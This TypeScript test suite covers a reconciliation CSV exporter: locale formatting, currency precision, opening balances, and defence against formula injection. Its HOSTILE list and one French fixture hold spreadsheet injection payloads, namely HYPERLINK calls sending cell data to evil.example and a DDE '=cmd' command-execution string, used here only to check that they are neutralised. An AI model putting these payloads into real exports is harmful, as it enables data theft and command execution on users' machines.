import { parseCsv } from '../../../src/adapters/csv/parseCsv';
import { csvField, neutraliseFormula, reconciliationCsv } from '../../../src/adapters/csv/writeReconciliationCsv';
import { LABELS, statementDocument, type DocumentLine, type StatementDocument } from '../../../src/core';
import { compute, utc } from './fixture';

const day = (iso: string) => Math.round(utc(iso).getTime() / 86_400_000);

function docOf(customerId: string, ...args: Parameters<typeof compute>): StatementDocument {
  const result = compute(...args);
  const s = result.statements.find((x) => x.customerId === customerId);
  if (s === undefined) throw new Error(`no statement for ${customerId}`);
  return statementDocument(result, s);
}

const lines = (csv: string) => csv.split('\r\n');

describe('reconciliation CSV', () => {
  it('English: BOM, comma, decimal point, ISO dates, debit/credit unsigned, one block per currency', () => {
    const csv = reconciliationCsv(docOf('A'));
    expect(csv.startsWith('\ufeffCurrency,Date,Type,Document,Reference,Due date,Debit,Credit,Paid/credited,Balance,Open,Matching\r\n')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(lines(csv.slice(1))).toEqual([
      'Currency,Date,Type,Document,Reference,Due date,Debit,Credit,Paid/credited,Balance,Open,Matching',
      // 1,234.56 − 34.56 paid = 1,200.00 open: the row adds up.
      'EUR,2026-01-15,Invoice,A1,PO-77,2026-02-14,1234.56,,34.56,1200.00,1200.00,',
      'EUR,2026-06-10,Invoice,A2,,2026-07-10,100.00,,0.00,1300.00,100.00,',
      'USD,2026-05-01,Invoice,A3,,2026-05-31,50.00,,0.00,50.00,50.00,',
      '',
    ]);
  });

  it('French: semicolon, decimal comma, dd/mm/yyyy, credits in the credit column, negative open amounts stay numbers', () => {
    const csv = reconciliationCsv(docOf('F'));
    expect(lines(csv)).toEqual([
      '\ufeffDevise;Date;Type;Pièce;Référence;Échéance;Débit;Crédit;Réglé/avoir;Solde;Restant dû;Lettrage',
      `EUR;01/04/2026;Facture;F1;"'=HYPERLINK(""http://evil.example"")";30/04/2026;999,99;;0,00;999,99;999,99;L1`,
      'EUR;01/06/2026;Avoir;F2;;01/06/2026;;99,99;0,00;900,00;-99,99;',
      '',
    ]);
    // The delimiter can be forced: then the decimal comma needs quotes.
    expect(lines(reconciliationCsv(docOf('F'), { delimiter: ',' }))[2]).toBe('EUR,01/06/2026,Avoir,F2,,01/06/2026,,"99,99","0,00","900,00","-99,99",');
    expect(lines(reconciliationCsv(docOf('A'), { delimiter: ';' }))[1]).toBe('EUR;2026-01-15;Invoice;A1;PO-77;2026-02-14;1234.56;;34.56;1200.00;1200.00;');
  });

  it('currencies keep their digits (JPY none, KWD three)', () => {
    expect(lines(reconciliationCsv(docOf('J')))[1]).toBe('JPY,2026-06-01,Invoice,J1,,2026-06-15,5000,,0,5000,5000,');
    expect(lines(reconciliationCsv(docOf('K')))[1]).toBe('KWD,2026-06-29,Invoice,K1,,2026-07-29,1.234,,0.000,1.234,1.234,');
  });

  it('activity statements start each currency with the opening balance, and keep their columns (no paid/credited)', () => {
    const csv = reconciliationCsv(docOf('A', { style: 'activity', from: day('2026-06-01') }));
    expect(lines(csv)[0]).toBe('\ufeffCurrency,Date,Type,Document,Reference,Due date,Debit,Credit,Balance,Open,Matching');
    expect(lines(csv).slice(1, 5)).toEqual([
      'EUR,2026-06-01,Opening balance,,,,,,1234.56,,',
      'EUR,2026-06-10,Invoice,A2,,2026-07-10,100.00,,1334.56,100.00,',
      'EUR,2026-06-20,Payment,AP1,,2026-06-20,,34.56,1300.00,0.00,',
      'USD,2026-06-01,Opening balance,,,,,,50.00,,', // A3 was posted in May
    ]);
  });

  it('open items with --from: the opening-balance row of the document, with the paid/credited column, even at zero', () => {
    const csv = reconciliationCsv(docOf('A', { from: day('2026-06-01') }));
    expect(lines(csv).slice(1)).toEqual([
      'EUR,2026-06-01,Opening balance,,,,,,,1200.00,,', // A1, still 1,200.00 open, brought forward
      'EUR,2026-06-10,Invoice,A2,,2026-07-10,100.00,,0.00,1300.00,100.00,',
      'USD,2026-06-01,Opening balance,,,,,,,50.00,,',
      '',
    ]);
    expect(lines(reconciliationCsv(docOf('A', { from: day('2020-01-01') })))[1]).toBe('EUR,2020-01-01,Opening balance,,,,,,,0.00,,');
  });

  const HOSTILE: [string, string][] = [
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `'=HYPERLINK("http://evil.example/?x="&A1,"click")`],
    ['+1', "'+1"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['-2+3', "'-2+3"],
    ['-A1', "'-A1"],
    ['  =1+1', "'  =1+1"],
    ['＝1+1', "'＝1+1"],
    ['=cmd|\' /C calc\'!A0', "'=cmd|' /C calc'!A0"],
    ['a;b, "c"\nd', 'a;b, "c"\nd'],
    ['PO 77', 'PO 77'],
    ['x=1', 'x=1'],
    ["'already quoted", "'already quoted"],
  ];

  it('neutralises formula injection in every text cell and survives an RFC 4180 round trip', () => {
    const template = docOf('A');
    const section = template.sections[0];
    const first = section?.lines[0];
    if (section === undefined || first === undefined) throw new Error('fixture');
    const hostileLines: DocumentLine[] = HOSTILE.map(([text], i) => ({ ...first, documentNo: text, reference: text, matchingCode: text, amount: -(i + 1) * 100, applied: 0, open: -(i + 1) * 100, balance: -(i + 1) * 100 }));
    const doc: StatementDocument = { ...template, sections: [{ ...section, lines: hostileLines }] };
    for (const delimiter of [',', ';'] as const) {
      const csv = reconciliationCsv(doc, { delimiter });
      const parsed = parseCsv(csv.slice(1), delimiter).rows;
      expect(parsed.length).toBe(HOSTILE.length + 1);
      HOSTILE.forEach(([, expected], i) => {
        const row = parsed[i + 1] ?? [];
        expect([row[3], row[4], row[11]]).toEqual([expected, expected, expected]);
        // Negative amounts: unsigned credit; negative balance and open are plain numbers, not quoted.
        expect([row[6], row[7], row[8], row[9], row[10]]).toEqual(['', `${i + 1}.00`, '0.00', `-${i + 1}.00`, `-${i + 1}.00`]);
      });
      // No cell a spreadsheet would evaluate: whatever starts with = + - @ is a plain number or was quoted.
      for (const row of parsed) for (const cell of row) if (/^[=+\-@\t\r]/.test(cell)) expect(cell).toMatch(/^-?\d+([.,]\d+)?$/);
    }
  });

  it('neutraliseFormula and csvField on their own', () => {
    expect(neutraliseFormula('-12.50')).toBe('-12.50');
    expect(neutraliseFormula('-12,50')).toBe('-12,50');
    expect(neutraliseFormula('-12.50.1')).toBe("'-12.50.1");
    expect(neutraliseFormula('-1e5')).toBe("'-1e5");
    expect(neutraliseFormula('')).toBe('');
    expect(csvField('say "hi"', ',')).toBe('"say ""hi"""');
    expect(csvField('1,5', ';')).toBe('1,5');
    expect(csvField('1,5', ',')).toBe('"1,5"');
    expect(csvField('=1;2', ';')).toBe(`"'=1;2"`);
  });

  it('headers come from the customer language labels', () => {
    const header = lines(reconciliationCsv(docOf('F')))[0]?.slice(1).split(';');
    const L = LABELS.fr;
    expect(header).toEqual([L.currency, L.date, L.type, L.document, L.reference, L.dueDate, L.debit, L.credit, L.applied, L.balance, L.open, L.matchingCode]);
    expect(header?.[8]).toBe('Réglé/avoir');
  });
});
